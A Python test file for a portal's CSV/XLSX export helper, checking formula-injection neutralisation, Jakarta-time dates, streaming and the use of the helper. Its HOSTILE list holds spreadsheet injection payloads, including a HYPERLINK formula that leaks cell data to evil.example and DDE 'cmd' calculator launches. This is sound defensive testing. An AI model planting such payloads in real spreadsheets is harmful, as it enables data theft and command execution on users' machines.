"""The core's export helper: what a spreadsheet reads back from any CSV or XLSX the portal writes.

Every export view goes through ``certportal.exports``; ``test_export_views.py`` feeds each of them hostile values
through the real views. Here: the helper's own rules, its streaming, and a guard that no module writes a CSV or an
XLSX file by itself.
"""

import csv
import datetime
import io
import re
import tracemalloc
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from certportal import exports

ROOT = Path(__file__).resolve().parents[2]
UTC = datetime.UTC
WIB = ZoneInfo("Asia/Jakarta")

# Each first character a spreadsheet may read as the start of a formula, with a payload of the kind attackers use.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",  # spreadsheets skip the blanks before a formula
    "\t  -1+2",
    "\u00a0\u3000@SUM(1+1)",
    "\uff1d1+1",  # the full-width forms: ＝ ＋ － ＠
    "\uff0bcmd|' /C calc'!A0",
    " \uff0d1+1",
    "\uff20SUM(1+1)",
]


def read_csv(response) -> list[list[str]]:
    text = response.getvalue().decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with a BOM
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def read_xlsx(response):
    return load_workbook(io.BytesIO(response.getvalue()))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_text_that_could_start_a_formula_gets_a_leading_quote(text):
    assert exports.neutralise(text) == "'" + text
    assert exports.csv_value(text) == "'" + text
    assert exports.xlsx_value(text) == "'" + text


@pytest.mark.parametrize("text", ["Siti Aminah", "Dinas Kesehatan", "— belum —", "'kutip", "", "a =b", "Ｂudi"])
def test_ordinary_text_is_left_alone(text):
    assert exports.csv_value(text) == text


@pytest.mark.parametrize("number", [-3, -2.5, Decimal("-1.50"), 0, 42, Decimal("78.70")])
def test_real_numbers_stay_numbers_even_when_negative(number):
    assert exports.csv_value(number) == number
    assert exports.xlsx_value(number) == number


def test_a_number_in_a_text_is_still_text():
    assert exports.csv_value("-1+2") == "'-1+2"
    assert exports.csv_value("-5") == "'-5"


@pytest.mark.parametrize("digits", ["198503142010011001", "3171234567890001", "081234567890", "0123", "123456789012"])
def test_identifiers_in_digits_stay_text_whole(digits):
    assert exports.csv_value(digits) == "\t" + digits  # Excel and LibreOffice keep it as text, every digit
    assert exports.xlsx_value(digits) == digits


@pytest.mark.parametrize("digits", ["2026", "12", "0", "12345678901"])
def test_short_digit_texts_are_left_alone(digits):
    assert exports.csv_value(digits) == digits


def test_dates_and_times_are_written_in_jakarta_time():
    evening_utc = datetime.datetime(2026, 11, 20, 20, 30, tzinfo=UTC)  # 03:30 on the 21st in Jakarta
    assert exports.csv_value(evening_utc) == "2026-11-21 03:30"
    assert exports.csv_value(datetime.date(2026, 8, 17)) == "2026-08-17"
    assert exports.xlsx_value(evening_utc) == datetime.datetime(2026, 11, 21, 3, 30)
    assert exports.csv_value(None) == "" and exports.xlsx_value(None) is None


def test_csv_download_reads_back_intact_with_a_filename_and_no_caching():
    rows = [[1, text, -7, datetime.date(2026, 1, 2)] for text in HOSTILE]
    response = exports.csv_response("laporan.csv", rows, header=["No.", "Nama", "Selisih", "Tanggal"])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="laporan.csv"'
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    header, *body = read_csv(response)
    assert header == ["No.", "Nama", "Selisih", "Tanggal"]
    assert [r[1] for r in body] == ["'" + text for text in HOSTILE]
    assert {r[2] for r in body} == {"-7"} and {r[3] for r in body} == {"2026-01-02"}


def test_a_filename_outside_ascii_is_sent_as_rfc_5987():
    response = exports.csv_response("rekap-Triwulan I–2026.csv", [])
    assert "filename*=utf-8''rekap-Triwulan%20I%E2%80%932026.csv" in response["Content-Disposition"]


def test_xlsx_download_has_no_formula_bold_header_widths_and_real_date_cells():
    submitted = datetime.datetime(2026, 11, 20, 20, 30, tzinfo=UTC)
    rows = [[n, text, Decimal("-1.5"), submitted, datetime.date(2026, 11, 23)] for n, text in enumerate(HOSTILE)]
    rows.append([99, "Dinas Pendidikan, Pemuda dan Olahraga Provinsi Daerah Khusus Ibukota Jakarta" * 2, 0, None,
                 None])
    response = exports.xlsx_response("antrian.xlsx", [
        exports.Sheet("Permohonan: antrian [baru]/lama", ["No.", "Nama", "Selisih", "Diajukan", "Target"], rows)])
    assert response["Content-Type"] == exports.XLSX_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="antrian.xlsx"'
    assert "no-store" in response["Cache-Control"]
    ws = read_xlsx(response).active
    assert ws.title == "Permohonan- antrian -baru--lama"  # characters Excel refuses in a sheet name replaced
    cells = [c for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert [c.value for c in ws["B"][1:len(HOSTILE) + 1]] == ["'" + text for text in HOSTILE]
    assert all(c.font.b for c in ws[1]) and not any(c.font.b for c in ws[2])
    assert ws.freeze_panes == "A2"
    assert [c.value for c in ws["C"][1:3]] == [-1.5, -1.5] and ws["C2"].data_type == "n"
    assert ws["D2"].is_date and ws["D2"].value == datetime.datetime(2026, 11, 21, 3, 30)
    assert ws["D2"].number_format == "dd/mm/yyyy hh:mm"
    assert ws["E2"].is_date and ws["E2"].value.date() == datetime.date(2026, 11, 23)
    assert ws["E2"].number_format == "dd/mm/yyyy"
    widths = {col: ws.column_dimensions[col].width for col in "ABCDE"}
    assert widths["A"] < widths["D"] < widths["B"] == exports.MAX_WIDTH  # the long name is capped
    assert widths["D"] >= len("dd/mm/yyyy hh:mm")


def test_xlsx_keeps_a_text_with_control_characters_readable_instead_of_failing():
    response = exports.xlsx_response("x.xlsx", [exports.Sheet("S", ["Nama"], [["Budi\x00\x07 Santoso"], ["\x00=1"]])])
    ws = read_xlsx(response).active
    assert ws["A2"].value == "Budi\ufffd\ufffd Santoso"
    assert ws["A3"].value == "\ufffd=1"  # NUL would have been neutralised; what XML cannot carry is replaced


def test_a_workbook_can_hold_several_sheets():
    response = exports.xlsx_response("x.xlsx", [exports.Sheet("Satu", ["a"], [[1]]),
                                                 exports.Sheet("Dua", ["b"], iter([["=2"]]))])
    wb = read_xlsx(response)
    assert wb.sheetnames == ["Satu", "Dua"] and wb["Dua"]["A2"].value == "'=2"


def test_table_response_knows_csv_and_xlsx_only():
    from django.http import Http404

    assert exports.table_response("csv", "t", "T", ["a"], [])["Content-Disposition"].endswith('"t.csv"')
    assert exports.table_response("xlsx", "t", "T", ["a"], [])["Content-Disposition"].endswith('"t.xlsx"')
    with pytest.raises(Http404):
        exports.table_response("html", "t", "T", ["a"], [])


@pytest.mark.slow  # a whole paper or a big export: make test runs it, make check leaves it out
def test_csv_is_written_whole_before_it_is_sent_without_holding_it_in_memory():
    """Issue 42 item 4: every row is read before the first byte (a failing row is an error page, not a file cut
    short), and the file goes to disk past ``CSV_SPOOL``: memory does not grow with the rows."""
    pulled = 0

    def many_rows(n):
        nonlocal pulled
        for i in range(n):
            pulled += 1
            yield [i, f"Pegawai {i}", "Dinas Kesehatan " * 12, datetime.datetime(2026, 1, 1, tzinfo=UTC)]

    tracemalloc.start()
    response = exports.csv_response("besar.csv", many_rows(20_000), ["No.", "Nama", "Unit", "Waktu"])
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert pulled == 20_000  # every row read before the response is returned
    assert peak < 1_500_000  # the spool's half megabyte and a chunk, not the 4 MB file
    body = b"".join(response.streaming_content)
    assert len(body) > 4_000_000 and body.count(b"\n") == 20_001
    assert int(response["Content-Length"]) == len(body)


def test_a_csv_whose_rows_fail_raises_in_the_view_and_sends_nothing():
    def rows():
        yield ["Budi"]
        raise RuntimeError("a state without a label")

    with pytest.raises(RuntimeError):
        exports.csv_response("x.csv", rows(), ["Nama"])


@pytest.mark.slow  # a whole paper or a big export: make test runs it, make check leaves it out
def test_xlsx_memory_does_not_grow_with_the_rows():
    def many_rows(n):
        for i in range(n):
            yield [i, f"Pegawai {i}", datetime.date(2026, 1, 1)]

    peaks = []
    for n in (500, 5_000):
        tracemalloc.start()
        exports.xlsx_response("besar.xlsx", [exports.Sheet("S", ["No.", "Nama", "Tanggal"], many_rows(n))])
        peaks.append(tracemalloc.get_traced_memory()[1])
        tracemalloc.stop()
    assert peaks[1] < peaks[0] * 2  # ten times the rows, not ten times the memory (rows go to a temporary file)


# --- every export goes through the helper ---------------------------------------------------------

WRITERS = re.compile(r"csv\.writer|csv\.DictWriter|openpyxl|xlsxwriter|tablib|text/csv|spreadsheetml")


def test_no_module_but_the_helper_writes_csv_or_xlsx():
    """A new export that writes its own CSV or XLSX would bypass the neutralising: it must use the helper."""
    offenders = []
    skip = {".venv", ".git", "tests", "bench", "scripts", "node_modules", "static", "staticfiles", "var"}
    for top in sorted(ROOT.iterdir()):
        if not top.is_dir() or top.is_symlink() or top.name in skip:
            continue
        for path in top.rglob("*.py"):
            relative = path.relative_to(ROOT)
            # certportal/workbooks.py reads uploaded workbooks (at a bounded cost); it writes none;
            # agencies/roster_sample.py writes the synthetic sample roster in SIASN's own layout (no person's data)
            if relative not in {Path("certportal/exports.py"), Path("certportal/workbooks.py"),
                                Path("agencies/roster_sample.py")} and WRITERS.search(
                    path.read_text(encoding="utf-8")):
                offenders.append(str(relative))
    assert offenders == []
